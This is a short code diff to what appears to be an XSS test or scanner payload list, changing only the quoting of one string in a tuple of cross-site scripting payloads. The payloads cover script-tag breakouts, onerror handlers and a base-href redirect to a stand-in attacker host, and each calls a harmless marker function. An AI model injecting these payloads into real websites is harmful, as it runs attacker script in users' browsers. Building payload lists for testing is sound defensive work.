@@ -26,7 +26,7 @@ PAYLOADS = (
     "<base href=//evil.example/>{n}",
     "<template shadowrootmode=open><img src=x onerror=hit({n})></template>",
     "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
-    "\"><script>hit({n})</script>",
+    '"><script>hit({n})</script>',
     "' onmouseover='hit({n})' autofocus onfocus='hit({n})' x='",
     "</textarea><script>hit({n})</script>",
     "</title><script>hit({n})</script>",
